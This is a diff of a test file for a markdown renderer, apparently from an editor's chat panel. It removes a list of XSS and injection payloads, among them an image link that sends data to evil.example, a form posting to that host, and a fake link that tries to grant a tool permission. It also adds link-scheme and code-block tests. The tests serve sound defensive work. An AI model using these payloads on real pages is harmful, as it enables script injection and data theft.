@@ -12,52 +12,6 @@ function links(text: string): HTMLElement[] {
   return [...renderMarkdown(text).querySelectorAll<HTMLElement>("a")];
 }
 
-const HOSTILE = [
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  '<a href="javascript:alert(1)">x</a>',
-  "<iframe src=https://evil.example></iframe>",
-  "<style>*{display:none}</style>",
-  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
-  "![x](https://evil.example/leak?data=secret)",
-  "![x](javascript:alert(1))",
-  "[x](javascript:alert(1))",
-  "[x](vbscript:msgbox)",
-  "[x](data:text/html;base64,PHNjcmlwdD4=)",
-  "[x](command:workbench.action.terminal.new)",
-  '[x](https://evil.example/"onmouseover="alert(1))',
-  "```html\n<script>alert(1)</script>\n```",
-  '```"><img src=x onerror=alert(1)>\ncode\n```',
-  "`<img src=x onerror=alert(1)>`",
-  "| <img src=x> |\n|---|\n| <script>x</script> |",
-  "<!-- hidden --> <div style='position:fixed'>",
-  '<form action="https://evil.example"><input name=x></form>',
-  "[![x](https://evil.example/a.png)](https://evil.example)",
-  '<a href="#" data-action="answer" data-request="question1" data-option="allowOnce">ok</a>',
-];
-
-describe("hostile text", () => {
-  it.each(HOSTILE)("draws %s without anything that acts or loads", (text) => {
-    const fragment = renderMarkdown(text);
-    expect(
-      fragment.querySelectorAll("script, img, iframe, style, svg, form, input, object"),
-    ).toHaveLength(0);
-    for (const element of fragment.querySelectorAll("*")) {
-      const names = element.getAttributeNames();
-      expect(
-        names.filter((name) => name.startsWith("on") || name === "style" || name === "src"),
-      ).toEqual([]);
-      expect(element.getAttribute("href") ?? "#").toBe("#");
-      expect(["link", "file", "copy", null]).toContain(element.getAttribute("data-action"));
-    }
-  });
-
-  it("keeps an attacker's quotes inside the attribute that they were written to", () => {
-    const [link] = links('[x](https://evil.example/"onmouseover="alert)');
-    expect(link?.getAttributeNames().sort()).toEqual(["data-action", "data-href", "href", "title"]);
-  });
-});
-
 describe("links", () => {
   it("are handed to the host and show where they lead", () => {
     const [link] = links("[docs](https://example.org/a?b=c)");
@@ -75,6 +29,12 @@ describe("links", () => {
 
   it("are not found in times, addresses and ports", () => {
     expect(links("at 10:15, http on 127.0.0.1:8080, key:value")).toEqual([]);
+  });
+
+  it("of another scheme than the web's stay text", () => {
+    for (const url of ["command:workbench.action.quit", "vscode://x/y", "file:///etc/passwd"]) {
+      expect(links(`[x](${url})`)).toEqual([]);
+    }
   });
 
   it("do not stand inside each other", () => {
@@ -97,8 +57,73 @@ it("draws an image as words", () => {
   );
 });
 
-it("keeps code as it is and offers to copy it", () => {
-  const fragment = renderMarkdown("```python\nif a < b:\n    pass\n```");
-  expect(fragment.querySelector("code")?.textContent).toBe("if a < b:\n    pass\n");
-  expect(fragment.querySelector("[data-action=copy]")?.textContent).toBe("Copy");
+describe("a block of code", () => {
+  const block = (text: string, streaming = false) => {
+    const found = renderMarkdown(text, streaming).querySelector<HTMLElement>(".code");
+    if (found === null) {
+      throw new Error(`no block in ${text}`);
+    }
+    return found;
+  };
+
+  it("keeps its text as it is and offers to copy it, to insert it and to open it", () => {
+    const found = block("```python\nif a < b:\n    pass\n```");
+    expect(found.querySelector("code")?.textContent).toBe("if a < b:\n    pass\n");
+    expect(found.dataset.language).toBe("python");
+    const buttons = [...found.querySelectorAll("button")];
+    expect(buttons.map(({ textContent, dataset }) => [textContent, dataset.action])).toEqual([
+      ["Copy", "copy"],
+      ["Insert at Cursor", "insertCode"],
+      ["New File", "newFile"],
+    ]);
+  });
+
+  it("is coloured in its language, by any of its names", () => {
+    for (const name of ["python", "py", "Python"]) {
+      expect(
+        block(`\`\`\`${name}\nif a:\n\`\`\``).querySelector(".hljs-keyword")?.textContent,
+      ).toBe("if");
+    }
+    expect(block("```nonsense\nif a:\n```").querySelector("span.hljs-keyword")).toBeNull();
+  });
+
+  it.each([
+    ["open", "```py\nif a:\n    x", false],
+    ["open at the end of a line", "```py\nif a:\n", false],
+    ["open and empty line", "```py\nif a:\n\n", false],
+    ["with a fence that is half written", "```py\nif a:\n``", false],
+    ["closed", "```py\nif a:\n```", true],
+    ["closed with text behind it", "```py\nif a:\n```\nand", true],
+    ["closed in a list", "- one\n  ```py\n  if a:\n  ```\n", true],
+  ])("that is written and %s is coloured: %s", (_, text, expected) => {
+    expect(block(text, true).querySelector(".hljs-keyword") !== null).toBe(expected);
+    expect(block(text).querySelector(".hljs-keyword")).not.toBeNull();
+  });
+
+  it("of a diff shows what came and what went, each with its sign", () => {
+    const text = "--- a.py\n+++ b.py\n@@ -1 +1 @@\n-old\n+new <b>\n same\n";
+    const found = block(`\`\`\`diff\n${text}\`\`\``);
+    const lines = [...found.querySelectorAll("code > span")];
+    expect(lines.map(({ className }) => className)).toEqual([
+      "diff-head",
+      "diff-head",
+      "diff-hunk",
+      "diff-removed",
+      "diff-added",
+      "diff-same",
+    ]);
+    expect(found.querySelector("code")?.textContent).toBe(text);
+  });
+});
+
+it("draws what a list has to do as boxes that nobody can tick", () => {
+  const fragment = renderMarkdown("- [x] `one`\n- [ ] two\n- [not] three\n- [ ]four");
+  const boxes = [...fragment.querySelectorAll("li.task-item > .task-box")];
+  expect(boxes.map((box) => box.getAttribute("aria-label"))).toEqual(["done", "to do"]);
+  expect([...fragment.querySelectorAll("li")].map((item) => item.textContent)).toEqual([
+    "✓one",
+    "two",
+    "[not] three",
+    "[ ]four",
+  ]);
 });
